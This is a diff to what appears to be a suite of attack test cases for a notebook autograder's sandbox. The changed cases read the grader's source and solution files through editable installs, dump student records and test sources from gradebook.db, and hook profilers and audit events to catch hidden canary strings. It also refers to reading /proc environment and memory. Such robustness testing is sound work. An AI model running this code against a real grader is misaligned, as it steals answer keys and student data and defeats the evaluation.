@@ -2,10 +2,6 @@
 
 from hostile.making import FIRST, LOOK, Attack, in_answers, own_cell
 
-SEEN = (
-    "print(len(seen), [text for text in map(repr, seen) if 'canary-' in text or 'HIDDEN' in text or 'check(' in text])"
-)
-
 LEAKS = (
     Attack(
         "environment",
@@ -22,9 +18,30 @@ for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.g
     ),
     Attack(
         "searches-files",
-        "Looks for secrets in every file that it can read, also through /proc/1/root.",
+        "Looks for secrets in every file that it can read, also through /proc/1/root, and where the grader is installed.",
         own_cell("""
-import os
+import glob, importlib.util, os, site, sqlite3
+def show(path):
+    try:
+        print(path, open(path).read()[:3000])
+    except OSError as error:
+        print(error)
+for folder in site.getsitepackages():
+    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*"):
+        show(path)
+for name in ("autograder", "solutions", "autograder.checks.attention.exercises"):
+    try:
+        print(importlib.util.find_spec(name))
+    except ImportError as error:
+        print(error)
+for path in ("solutions/attention.py", "autograder/checks/attention/exercises.py"):
+    show(f"{REPOSITORY}/{path}")
+for path in (COURSE + "/gradebook.db", "file:" + COURSE + "/gradebook.db?mode=ro&immutable=1"):
+    try:
+        connection = sqlite3.connect(path, uri=path.startswith("file:"), timeout=1)
+        print(connection.execute("select * from student").fetchall(), connection.execute("select source from source_cell").fetchall())
+    except sqlite3.Error as error:
+        print(error)
 tops = ["/", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", COURSE, REPOSITORY, os.path.expanduser("~root"), "/home"]
 for top in tops:
     for folder, folders, files in os.walk(top):
@@ -69,8 +86,13 @@ with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
         "Notes every cell, message, call, event and audit event, and prints what it saw.",
         own_cell(
             """
-import sys
-seen = []
+import sys, threading
+seen, called = [], []
+def profile(frame, event, argument):
+    if len(called) < 20_000 and event in ("call", "return"):
+        called.append((frame.f_code.co_name, str(argument)[:200]))
+sys.setprofile(profile)
+threading.setprofile(profile)
 get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
 get_ipython().input_transformers_cleanup.append(lambda lines: seen.extend(lines) or lines)
 import inside
@@ -81,24 +103,8 @@ def note():
 inside._receive = note
 sys.addaudithook(lambda event, args: seen.append(str(args)) if event in ("exec", "compile", "open") and len(seen) < 9999 else None)
 """,
-            later=SEEN + "\nprint(In)\nprint([key for key in globals()])",
-        ),
-        states=LOOK,
-    ),
-    Attack(
-        "traces",
-        "Follows every call with sys.setprofile and keeps the frames.",
-        own_cell(
-            """
-import sys, threading
-seen = []
-def profile(frame, event, argument):
-    if len(seen) < 20_000 and event in ("call", "return"):
-        seen.append((frame.f_code.co_name, str(argument)[:200]))
-sys.setprofile(profile)
-threading.setprofile(profile)
-""",
-            later="import sys\nsys.setprofile(None)\n" + SEEN,
+            later="import sys\nsys.setprofile(None)\nprint(len(seen), [text for text in map(repr, seen + called) "
+            "if 'canary-' in text or 'HIDDEN' in text or 'check(' in text])\nprint(In)\nprint([key for key in globals()])",
         ),
         states=LOOK,
     ),
@@ -118,40 +124,6 @@ raise RuntimeError(text[:100_000])
         ),
         "attention",
         on=FIRST,
-    ),
-    Attack(
-        "reads-the-gradebook",
-        "Prints the list of students and the tests from gradebook.db.",
-        own_cell("""
-import sqlite3
-for path in (COURSE + "/gradebook.db", "file:" + COURSE + "/gradebook.db?mode=ro&immutable=1"):
-    try:
-        connection = sqlite3.connect(path, uri=path.startswith("file:"), timeout=1)
-        print(connection.execute("select * from student").fetchall(), connection.execute("select source from source_cell").fetchall())
-    except sqlite3.Error as error:
-        print(error)
-"""),
-    ),
-    Attack(
-        "reads-the-sources",
-        "Follows the editable installation to the grader's sources and the answers.",
-        own_cell("""
-import glob, importlib.util, os, site
-for folder in site.getsitepackages():
-    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*"):
-        print(path, open(path).read()[:3000])
-for name in ("autograder", "solutions", "autograder.checks.attention.exercises"):
-    try:
-        print(importlib.util.find_spec(name))
-    except ImportError as error:
-        print(error)
-for path in glob.glob(REPOSITORY + "/**/*.py", recursive=True)[:5] + [REPOSITORY + "/solutions/attention.py"]:
-    if "site-packages" not in path:
-        try:
-            print(open(path).read())
-        except OSError as error:
-            print(error)
-"""),
     ),
     Attack(
         "sockets",
